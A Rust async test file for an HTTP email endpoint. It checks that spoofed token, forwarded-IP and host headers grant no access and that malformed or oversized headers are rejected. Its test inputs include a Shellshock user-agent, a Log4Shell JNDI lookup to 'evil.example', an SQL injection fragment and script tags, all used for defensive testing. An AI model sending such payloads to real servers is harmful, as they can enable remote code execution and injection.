//! Headers that would like to be a token, a body, or somebody else's word.

use super::good;
use super::http::{Row, hold};
use super::wire::post;
use crate::harness::TOKEN;

#[tokio::test]
async fn no_header_opens_closes_or_changes_anything() {
    let close = "connection: close\r\n";
    let mut rows: Vec<Row> = Vec::new();
    let mut row = |headers: &str, body: &str, expected| {
        let headers = headers.trim_end().replace('\n', "\r\n");
        let hosted = post("/api/email", &format!("{headers}\r\n{close}"), body);
        let request =
            if headers.starts_with("host:") { hosted.replacen("host: a\r\n", "", 1) } else { hosted };
        rows.push((headers, request, expected));
    };
    let (good, stranger) = (good(), good().replace(TOKEN, "wrong"));
    // A header is no token, whoever believes so elsewhere.
    for headers in [
        format!("authorization: Bearer {TOKEN}"),
        format!("token: {TOKEN}"),
        format!("x-api-key: {TOKEN}"),
        format!("cookie: token={TOKEN}"),
        "x-forwarded-for: 127.0.0.1\nx-real-ip: 127.0.0.1\nforwarded: for=127.0.0.1".to_owned(),
        "x-original-url: /health\nx-rewrite-url: /health".to_owned(),
        "x-amz-security-token: evil\nx-amzn-oidc-data: evil".to_owned(),
        "lambda-runtime-aws-request-id: evil\nlambda-runtime-function-error-type: evil".to_owned(),
    ] {
        row(&headers, &stranger, &[403]);
        row(&headers, &good, &[200]);
    }
    for headers in [
        "host: evil.example",
        "host: a:99999",
        "host: [",
        "host: evil@127.0.0.1",
        "host: %00",
        "host: ../..",
        "host: \u{e9}",
        "host: a, b",
        "host: http://x/",
        "x-forwarded-host: evil.example\nx-forwarded-port: 99999\nx-forwarded-proto: gopher",
        "x-forwarded-for: \u{e9}, ' OR 1=1 --, <script>",
        "x-forwarded-for: ,,,,,",
        "x-amzn-trace-id: Root=1-evil;Parent=evil;Sampled=evil;;;=",
        "x-amzn-trace-id: \u{e9}",
        "x-amzn-trace-id: Self=",
        "content-type:",
        "content-type: ;;;",
        "content-type: application/json, text/html",
        "content-type: text/plain\ncontent-type: image/png",
        "content-type: \u{e9}",
        "content-type: multipart/form-data; boundary=x",
        "content-type: application/x-www-form-urlencoded",
        "content-type: application/json; charset=\"evil",
        "content-encoding: gzip",
        "content-encoding: br",
        "content-encoding: identity",
        "content-encoding: gzip, gzip, gzip",
        "accept: image/png",
        "accept-encoding: gzip;q=0, *;q=0",
        "te: trailers",
        "trailer: content-length",
        "connection: keep-alive, te, host",
        "connection: content-length",
        "keep-alive: timeout=99999",
        "upgrade: h2c\nhttp2-settings: x",
        "expect: nonsense",
        "range: bytes=0-0",
        "if-match: x\nif-none-match: *",
        "if-modified-since: evil",
        "proxy: http://evil.example",
        "proxy-connection: keep-alive",
        "transfer-encoding-x: chunked",
        "user-agent: () { :; }; echo evil",
        "user-agent: ${jndi:ldap://evil.example/a}",
        "referer: javascript:evil",
        "origin: null",
        "x-odd_name: dropped",
        "set-cookie: evil=1",
        "a: ",
        "a:b:c",
        "prefer: respond-async",
        "x-amz-invocation-type: Event",
        "x-amz-target: AmazonSQS.PurgeQueue",
    ] {
        row(headers, &good, &[200]);
    }
    row("expect: 100-continue", &good, &[100, 200]);
    row("upgrade: websocket", &good, &[400]);
    row("host: a\nhost: b", &good, &[400]);
    row("host: a\nhost: a", &good, &[400]);
    // A body that is what its header says is not what the contract says.
    row("content-encoding: gzip", "\u{1f}\u{8b}\u{8}", &[400]);
    row("content-encoding: deflate", "x\u{9c}", &[400]);
    row("content-transfer-encoding: base64", "e30=", &[400]);
    row("content-type: application/x-www-form-urlencoded", &format!("token={TOKEN}"), &[400]);
    // Numbers and sizes.
    row(&format!("x: {}", "y".repeat(16_000)), &good, &[200]);
    row(&format!("x: {}", "y".repeat(17_000)), &good, &[400]);
    row(&"x: y\n".repeat(900), &good, &[200]);
    row(&"x: y\n".repeat(2_000), &good, &[431]);
    row(&format!("x: {}\n", "y".repeat(16_000)).repeat(5), &good, &[400]);
    row(&format!("x: {}\n", "y".repeat(16_000)).repeat(50), &good, &[431]);
    row(&format!("{}: y", "n".repeat(15_000)), &good, &[200]);
    row(&format!("x-forwarded-for: {}", ["10.0.0.1"; 31].join(",")), &good, &[463]);
    row(&"x-forwarded-for: 10.0.0.1\n".repeat(31), &good, &[463]);
    hold(rows).await;
}
